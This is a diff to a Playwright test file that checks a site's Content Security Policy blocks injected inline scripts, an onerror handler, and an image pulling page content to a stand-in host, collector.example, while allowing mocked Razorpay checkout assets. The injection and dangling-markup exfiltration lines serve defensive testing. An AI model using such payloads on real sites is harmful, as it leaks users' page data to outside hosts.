@@ -14,7 +14,7 @@ async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
   return () => page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
 }
 
-test('a script or handler slipped into the page as markup does not run', async ({ page }) => {
+test('a script or handler slipped into the page as markup does not run, and an image it adds loads from no other host', async ({ page }) => {
   const violations = await recordViolations(page);
   await page.goto('/');
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
@@ -23,11 +23,12 @@ test('a script or handler slipped into the page as markup does not run', async (
     s.textContent = 'window.__injected = "script";';
     document.body.appendChild(s);
     const div = document.createElement('div');
-    div.innerHTML = '<img src="data:image/png;base64,AAAA" onerror="window.__injected = \'handler\'">';
+    div.innerHTML = '<img src="data:image/png;base64,AAAA" onerror="window.__injected = \'handler\'"><img src="https://collector.example/?rest-of-page=">';
     document.body.appendChild(div);
   });
   await expect.poll(async () => (await violations()).filter((v) => v.startsWith('script-src')).sort()).toEqual(['script-src-attr inline', 'script-src-elem inline']);
   expect(await page.evaluate(() => (window as unknown as { __injected?: string }).__injected)).toBeUndefined();
+  await expect.poll(violations).toContain('img-src https://collector.example/?rest-of-page=');
 });
 
 /**
@@ -43,13 +44,23 @@ test("Razorpay's checkout (its script, the script it loads, its frame, its repor
     for (const item of body) if (item.result?.data) item.result.data.mode = 'razorpay';
     await route.fulfill({ response: res, json: body });
   });
-  await page.route('https://cdn.razorpay.com/**', (route) => route.fulfill({ contentType: 'application/javascript', body: 'window.__rzpRisk = true;' }));
+  await page.route('https://cdn.razorpay.com/**', (route) =>
+    route.request().url().endsWith('.svg')
+      ? route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>' })
+      : route.fulfill({ contentType: 'application/javascript', body: 'window.__rzpRisk = true;' }),
+  );
   await page.route('https://api.razorpay.com/**', (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Razorpay</title>' }));
   await page.route('https://lumberjack.razorpay.com/**', (route) => route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, json: { ok: true } }));
   await page.route('https://checkout.razorpay.com/v1/checkout.js', (route) =>
     route.fulfill({
       contentType: 'application/javascript',
       body: `
+        const badge = document.createElement('img');
+        badge.src = 'https://cdn.razorpay.com/static/assets/logo/payment.svg';
+        document.body.appendChild(badge);
+        const style = document.createElement('style');
+        style.textContent = '.razorpay-backdrop { opacity: 0.5; }';
+        document.head.appendChild(style);
         const risk = document.createElement('script');
         risk.src = 'https://cdn.razorpay.com/static/cx/razorpay-risk-detection/bundle.js';
         document.head.appendChild(risk);
